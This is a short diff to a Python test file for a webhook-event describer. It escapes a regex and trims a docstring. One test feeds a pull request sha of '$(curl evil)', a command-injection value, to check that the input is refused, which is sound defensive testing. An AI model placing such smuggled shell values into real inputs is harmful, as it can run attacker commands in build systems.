@@ -1,4 +1,4 @@
-"""describe_event: what a run is, from real webhook payloads (tests/fixtures/events) and settings."""
+"""describe_event: what a run is, from real webhook payloads (tests/fixtures/events)."""
 
 from __future__ import annotations
 
@@ -294,7 +294,7 @@ def test_describe_event__a_payload_missing_a_field_names_it(event, fixture, remo
 def test_pull_request__a_sha_that_is_not_hex_is_refused():
     data = payload("pull_request.opened")
     data["pull_request"]["head"]["sha"] = "$(curl evil)"
-    with pytest.raises(UsageError, match="pull_request.head.sha"):
+    with pytest.raises(UsageError, match=r"pull_request\.head\.sha"):
         describe("pull_request", data)
 
 
